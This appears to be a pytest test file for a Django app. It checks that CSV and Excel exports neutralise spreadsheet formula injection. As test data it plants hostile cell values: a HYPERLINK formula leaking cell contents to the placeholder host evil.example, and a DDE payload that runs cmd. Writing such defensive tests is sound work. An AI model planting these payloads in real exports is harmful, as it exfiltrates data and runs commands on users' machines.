"""No download carries a formula from user input (docs/product.md §10): titles, names and notes that start with
=, +, -, @, a tab or a carriage return are planted in the records, every CSV and Excel export is downloaded
(Excel read with openpyxl) and no cell starts with a formula character; each planted text is there, after a '.

The exports: the public ledger's Excel, figures CSV and deeds CSV (open data); each roster's template, export
and error report (places, units, sites, residents, members). A roster exported so re-imports unchanged."""

import csv
import io
import re

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils import timezone
from openpyxl.utils.escape import unescape

from core.cells import FORMULA_STARTS
from needs.models import Category
from needs.services import need_act, need_submit
from people.services import (
    member_report,
    membership_create,
    organisation_update,
    person_create,
)
from places.services import place_update
from rosters.models import RosterImport
from rosters.tests.helpers import upload
from sites.services import site_create

pytestmark = pytest.mark.django_db

TITLE = '=HYPERLINK("http://evil.example/?q="&A1,"点击查看")'
UNIT = "=cmd|' /C calc'!A0"
CATEGORY = "+加装电梯"
GRID = "-天庆嘉园第一网格"
COMPOUND = "@SUM(1+1)天庆嘉园A区"
SITE, HOURS, NOTE = "+便民驿站", "\t周一至周五", "-雨伞、针线"
RESIDENT, MEMBER = "=王秀兰", "-王建国"


@pytest.fixture
def planted(root, tree, unit, accounts):
    """A resolved public need whose title, category, grid and unit are dangerous; a site, a resident and a
    dual-reported member the same."""
    place_update(actor=root, place=tree["grid1"], name=GRID)
    place_update(actor=root, place=tree["compound"], name=COMPOUND)
    organisation_update(actor=root, organisation=unit["organisation"], name=UNIT)
    category = Category.objects.create(name=CATEGORY)
    need = need_submit(actor=accounts["resident"], title=TITLE, place=tree["building"], category=category)
    need = need_act(actor=accounts["community_staff"], need=need, action="accept", category=category,
                    concern_level="worry")
    need = need_act(actor=accounts["community_staff"], need=need, action="publish")
    need = need_act(actor=accounts["unit_admin"], need=need, action="claim")
    need_act(actor=accounts["unit_admin"], need=need, action="resolve", note="已办结", evidence="居民签字")
    site_create(actor=root, kind="station", name=SITE, place=tree["compound"], opening_hours=HOURS,
                description=NOTE)
    person_create(actor=root, name=RESIDENT, phone="13912345021", home=tree["entrance"], room="301",
                  is_resident=True)
    member = person_create(actor=root, name=MEMBER, phone="13912345001", skills="@法律咨询")
    membership = membership_create(actor=root, person=member, party_organisation=unit["branch"])
    member_report(actor=root, membership=membership, community=tree["tqjy"], reported_on=timezone.localdate())


def content(response) -> bytes:
    assert response.status_code == 200, response
    return b"".join(response.streaming_content) if response.streaming else response.content


def csv_cells(response) -> list:
    return [cell for row in csv.reader(io.StringIO(content(response).decode("utf-8-sig"))) for cell in row]


def xlsx_cells(response) -> list:
    book = openpyxl.load_workbook(io.BytesIO(content(response)))  # not read-only: formulas kept as formulas
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def assert_no_formula(values, *planted):
    """No text starts with a formula character, and each planted text is there behind its '. Texts are read
    as Excel reads them: xlsxwriter writes a carriage return as _x000D_, which openpyxl leaves as it is."""
    texts = [unescape(v) for v in values if isinstance(v, str)]
    assert not [t for t in texts if t.startswith(FORMULA_STARTS)]
    for text in planted:
        assert "'" + text in texts, text


def test_the_public_ledger_downloads_carry_no_formula(client, tree, planted):
    period = {"period": str(timezone.localdate().year)}
    code = tree["tqjy"].code
    cells = xlsx_cells(client.get(reverse("ledger:xlsx", args=[code]), period))
    assert not [c for c in cells if c.data_type == "f"]  # nothing openpyxl reads as a formula either
    values = [c.value for c in cells]
    assert_no_formula(values, TITLE, UNIT, CATEGORY, GRID)
    assert any(isinstance(v, int) for v in values)  # the figures stay numbers
    assert_no_formula(csv_cells(client.get(reverse("ledger:deeds_csv", args=[code]), period)),
                      TITLE, UNIT, CATEGORY, GRID)
    # The figures: the breakdowns by category and grid name them after the section's title.
    response = client.get(reverse("ledger:csv", args=[code]), period)
    raw = content(response).decode("utf-8-sig")
    figures = [cell for row in csv.reader(io.StringIO(raw)) for cell in row]
    assert_no_formula(figures)
    assert any(CATEGORY in v for v in figures) and any(GRID in v for v in figures)
    assert re.search(r'^"[^"]*","found","[^"]*",1,', raw, re.M)  # a number unquoted, the texts quoted


@pytest.mark.parametrize(("role", "slug", "texts"), [
    ("subdistrict_admin", "places", [GRID, COMPOUND]),
    ("subdistrict_admin", "units", [UNIT]),
    ("community_staff", "sites", [SITE, HOURS, NOTE]),
    ("subdistrict_admin", "residents", [RESIDENT]),
    ("subdistrict_admin", "members", [MEMBER, "@法律咨询"]),
])
def test_the_roster_exports_carry_no_formula_and_reimport_unchanged(client, accounts, planted, settings, tmp_path,
                                                                     role, slug, texts):
    settings.VAR_DIR = tmp_path
    client.force_login(accounts[role])
    assert_no_formula([c.value for c in xlsx_cells(client.get(f"/rosters/{slug}/template.xlsx"))])
    exported = xlsx_cells(client.get(f"/rosters/{slug}/export.xlsx"))
    assert_no_formula([c.value for c in exported], *texts)
    book = openpyxl.load_workbook(io.BytesIO(content(client.get(f"/rosters/{slug}/export.xlsx"))))
    rows = [["" if v is None else v for v in row] for row in book.worksheets[0].iter_rows(values_only=True)]
    _response, imported = upload(client, slug, rows)
    assert imported.counts["unchanged"] == len(rows) - 1, imported.counts  # the ' read off again


def test_a_roster_error_report_carries_no_formula(client, accounts, tree, settings, tmp_path):
    """The rows with errors come back as they were typed: text cells (a formula typed in Excel is read as its
    value), that a spreadsheet would read as formulas once written again."""
    settings.VAR_DIR = tmp_path
    client.force_login(accounts["community_staff"])
    book = openpyxl.Workbook()
    for row in (["姓名", "手机号", "性别", "住址编码", "房号"],
                ["=1+1", "not a phone", "男", tree["entrance"].code, "@301"],
                ["-陈一", "13912345022", "=女", "+620102", "101"]):
        book.active.append(row)
    for row in book.active.iter_rows():
        for cell in row:
            cell.data_type = "s"  # text, as Excel keeps '=1+1 typed with its quote
    file = io.BytesIO()
    book.save(file)
    response = client.post("/rosters/residents/upload", {"file": SimpleUploadedFile("r.xlsx", file.getvalue())})
    imported = RosterImport.objects.get(roster="residents")
    assert response.status_code == 302
    assert imported.counts["error"] == 2, imported.counts
    report = [c.value for c in xlsx_cells(client.get(reverse("rosters:error_report", args=[imported.pk])))]
    assert_no_formula(report, "=1+1", "@301", "-陈一", "=女", "+620102")


def test_a_volunteers_record_export_carries_no_formula(client, accounts, tree, unit, root):
    """The whole record as Excel (volunteering:export): an activity's title, a place, a team, a correction's reason
    and a commendation that start with formula characters come back as text."""
    import datetime

    from people import scopes
    from people.services import team_create, team_member_add
    from volunteering.services import (
        activity_create,
        checkin,
        hours_certify,
        hours_correct,
        hours_propose,
        record_entry_add,
        signup_create,
        volunteer_register,
    )

    team = team_create(actor=root, name="@红色长城护卫队", community=tree["tqjy"])
    team_member_add(actor=root, team=team, person=scopes.person_of(accounts["resident"]))
    volunteer = volunteer_register(actor=accounts["resident"], person=scopes.person_of(accounts["resident"]))
    start = timezone.now() + datetime.timedelta(days=1)
    activity = activity_create(actor=accounts["community_staff"], kind="clean_up", name=TITLE, team=team,
                               place=tree["compound"], starts_at=start, ends_at=start + datetime.timedelta(hours=2))
    signup_create(actor=accounts["resident"], activity=activity)
    checkin(actor=accounts["resident"], activity=activity, code=activity.checkin_code, at=start)
    [entry] = hours_propose(activity=activity, at=start + datetime.timedelta(hours=3))
    hours_certify(actor=accounts["community_staff"], entries_or_activity=activity)
    hours_correct(actor=accounts["community_staff"], entry=entry, hours=1, reason="=1+1")
    record_entry_add(actor=accounts["community_staff"], volunteer=volunteer, kind="commendation", title="+优秀志愿者",
                     on=timezone.localdate())
    place_update(actor=root, place=tree["compound"], name=COMPOUND)
    client.force_login(accounts["resident"])
    cells = xlsx_cells(client.get(reverse("volunteering:export")))
    assert not [c for c in cells if c.data_type == "f"]
    assert_no_formula([c.value for c in cells], TITLE, "=1+1", "+优秀志愿者", "@红色长城护卫队", COMPOUND)
